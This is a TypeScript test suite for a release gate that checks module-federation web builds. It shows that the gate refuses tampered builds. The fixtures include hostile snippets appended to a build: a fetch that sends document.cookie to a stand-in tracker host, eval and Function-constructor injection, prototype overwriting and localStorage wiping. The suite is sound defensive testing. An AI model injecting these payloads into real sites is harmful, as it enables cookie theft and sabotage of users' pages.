import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { tryImport } from '../platform/cli/rehearsal/try-import.ts';
import type { HostMetadata, VersionFiles } from '../platform/gate/document/release.ts';
import { inspectBuild } from '../platform/gate/inspection/inspect-build.ts';
import type { Candidate, Refusal } from '../platform/gate/refusal.ts';
import { refusalsOf } from '../platform/gate/release-gate.ts';
import { remoteNames } from '../platform/gate/remotes.ts';
import { changed, fileLike, liveBuild, type RealBuild, replaced, textOf } from './support/real-build.ts';
import { siteUrl } from './support/site.ts';

/** The publish gate on real builds: webpack's output of the areas, and tampered copies of it. */
const candidateOf = ({ files, bytes }: RealBuild): Candidate => ({ files, metadata: inspectBuild(files, bytes) });
let host: HostMetadata;
let catalog: RealBuild;
let live: Candidate;

beforeAll(async () => {
  host = (await (await fetch(`${siteUrl}/platform.json`)).json()) as HostMetadata;
  catalog = await liveBuild('catalog');
  live = candidateOf(catalog);
});

const refusals = (build: RealBuild, files: Partial<VersionFiles> = {}): Refusal[] =>
  refusalsOf(candidateOf({ ...build, files: { ...build.files, ...files } }), { hosts: [host], live });
const checks = (found: Refusal[]): string[] => found.map(({ check, what }) => `${check}: ${what}`);

const appended = (code: string): RealBuild => {
  const file = fileLike(catalog, 'contact.');
  return changed(catalog, file, `${textOf(catalog, file)};${code}`);
};

const exposed = '__federation_expose_remote';

it('lets a real build pass, as every start of a site does with all areas', () => {
  expect(refusalsOf(live, { hosts: [host], live })).toEqual([]);
});

it.each(remoteNames)('sees %s keep to itself', async (name) => {
  expect(candidateOf(await liveBuild(name)).metadata.pageEffects).toEqual([]);
});

it('refuses a build without two of its screens', () => {
  expect(checks(refusals(replaced(catalog, exposed, /path:"\/(contact|courseDetail)"/, 'path:void 0')))).toEqual([
    expect.stringMatching('^paths: /contact is gone'),
    expect.stringMatching('^paths: /courseDetail is gone'),
  ]);
});

it('refuses a build without its hook', () => {
  expect(checks(refusals(replaced(catalog, exposed, /\{prepare:/, '{prepared:')))).toEqual([
    "exposed module: 'prepare' of './remote' is gone; the live version has it.",
  ]);
});

it('refuses a name that the shell does not lend', () => {
  expect(checks(refusals(replaced(catalog, exposed, /\.useLocation\b/, '.useBlocker')))).toEqual([
    "shared libraries: It takes 'useBlocker' from react-router-dom; the live shell lends no such name.",
  ]);
});

it.each([
  ['eval', 'eval("1")'],
  ['eval', "globalThis['ev'+'al']('1')"],
  ["a function's constructor", "(()=>{}).constructor('return 1')()"],
])('refuses %s as `%s`', (what, code) => {
  expect(checks(refusals(appended(code)))).toEqual([expect.stringMatching(`^content security: .*${what}`)]);
});

it('refuses requests to a stranger', () => {
  expect(checks(refusals(appended("fetch('https://tracker.example/'+document.cookie)")))).toEqual([
    'connections: Its code sends requests to https://tracker.example, which it does not declare.',
  ]);
});

it.each([
  [
    "window.addEventListener('click',e=>e.stopImmediatePropagation(),true)",
    'listens to click on window in the capture',
  ],
  ['localStorage.clear()', 'empties localStorage'],
  ['Array.prototype.map=function(){return []}', 'changes Array.prototype.map'],
])('refuses what reaches every area and throws nothing: `%s`', (code, what) => {
  expect(checks(refusals(appended(code)))).toEqual([expect.stringContaining(`isolation: It ${what}`)]);
});

it('refuses a style sheet that hides the header', () => {
  expect(checks(refusals(changed(catalog, 'late.css', 'header{display:none}')))).toEqual([
    "isolation: It styles 'header', which is not its own.",
  ]);
});

it('refuses what grows, and what begins with too much', () => {
  const noise = `/*${randomBytes(1_500_000).toString('base64')}*/`;
  expect(checks(refusals(changed(catalog, 'large.js', noise)))).toEqual([
    expect.stringMatching(/^bytes: All its files together have .* more than in the live version/),
  ]);
  const entry = fileLike(catalog, 'remoteEntry.');
  expect(checks(refusals(changed(catalog, entry, textOf(catalog, entry) + noise.slice(0, 60_000) + '*/')))).toEqual(
    expect.arrayContaining([expect.stringMatching(/^bytes: Its pages begin with .* are allowed/)]),
  );
});

it('believes no metadata that was edited by hand', () => {
  const forged = JSON.stringify({ firstLoadBytes: 1, totalBytes: 1, unsafe: [], unhashed: [], platformMembers: [] });
  const bad = appended('eval("1")');
  const bytes = new Map([...bad.bytes, ['metadata.json', Buffer.from(forged)] as const]);
  expect(checks(refusals({ ...bad, bytes }))).toEqual([expect.stringMatching('^content security')]);
  expect(checks(refusals(catalog, { shared: { ...catalog.files.shared, react: '^18.3.1' } }))).toEqual([
    'integrity: release.json says react ^18.3.1; its scripts ask for ^19.3.1.',
  ]);
});

it('refuses another federation runtime, and names that the shell’s runtime lacks', () => {
  const newer = replaced(catalog, 'mf-manifest.', /"pluginVersion": "2\.\d+\./, '"pluginVersion": "2.999.');
  expect(checks(refusals(newer))).toEqual(
    expect.arrayContaining([expect.stringMatching(/^federation runtime: It was built for .* \^2\.999\./)]),
  );
  const other = replaced(catalog, 'remoteEntry.', /\.getGlobalFederationConstructor\b/, '.getTomorrow');
  expect(checks(refusals(other))).toEqual([
    expect.stringMatching(/^federation runtime: It takes 'getTomorrow' from the federation runtime/),
  ]);
});

it('refuses another React, whatever release.json says', () => {
  const old = replaced(catalog, 'remoteEntry.', /requiredVersion:"\^19\.3\.1"/, 'requiredVersion:"^18.3.1"');
  expect(checks(refusals(old))).toEqual(
    expect.arrayContaining([expect.stringMatching(/^shared libraries: react \^18\.3\.1 is needed/)]),
  );
});

it('refuses bytes that were changed after the build', () => {
  const file = fileLike(catalog, 'contact.');
  const bytes = new Map([...catalog.bytes, [file, Buffer.from(`${textOf(catalog, file)};fetch("/x")`)] as const]);
  expect(checks(refusals({ ...catalog, bytes }))).toEqual([
    `integrity: ${file} is missing, or is not what was built, so no browser would run it.`,
    `integrity: ${file}.br is missing, or is not what was built, so no browser would run it.`,
  ]);
});

/** The folder of a finished build. */
function written({ files, bytes }: RealBuild): string {
  const folder = path.join(mkdtempSync(path.join(tmpdir(), 'vidya-gate-')), files.version);
  for (const [file, content] of new Map([...bytes, ['release.json', Buffer.from(JSON.stringify(files))]])) {
    mkdirSync(path.dirname(path.join(folder, file)), { recursive: true });
    writeFileSync(path.join(folder, file), content);
  }
  return folder;
}

it('refuses a build that throws when it is imported, in a sentence, and no good one', async () => {
  const tried = (build: RealBuild) => tryImport({ site: siteUrl, folder: written(build) });
  expect(await tried(catalog)).toBeUndefined();
  const file = fileLike(catalog, exposed);
  const throwing = textOf(catalog, file).replaceAll(
    /\d+\([\w$]+(?:,[\w$]+){0,2}\)\{/g,
    '$&throw new TypeError("no such flag");',
  );
  expect(await tried(changed(catalog, file, throwing))).toMatchObject({
    check: 'exposed module',
    what: "Importing './remote' in a browser fails: TypeError: no such flag",
  });
});
